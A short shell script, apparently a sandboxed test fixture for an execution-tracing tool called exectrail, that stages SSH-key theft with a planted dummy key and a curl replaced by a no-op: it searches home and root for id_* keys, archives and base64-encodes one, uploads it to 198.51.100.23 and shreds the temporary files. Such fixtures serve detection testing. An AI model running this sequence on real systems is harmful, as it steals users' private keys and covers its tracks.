#!/bin/sh
# Keys of all users are searched, packed, encoded and sent away.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

mkdir -p /home/alice/.ssh
echo key >/home/alice/.ssh/id_ed25519
cp /usr/bin/true /usr/local/bin/curl
find /home /root -name 'id_*' >/dev/null
tar -czf /tmp/.k /home/alice/.ssh/id_ed25519 2>/dev/null
base64 /tmp/.k >/tmp/.k64
/usr/local/bin/curl -s -F f=@/tmp/.k64 http://198.51.100.23/u
shred -u /tmp/.k /tmp/.k64
sleep 0.05
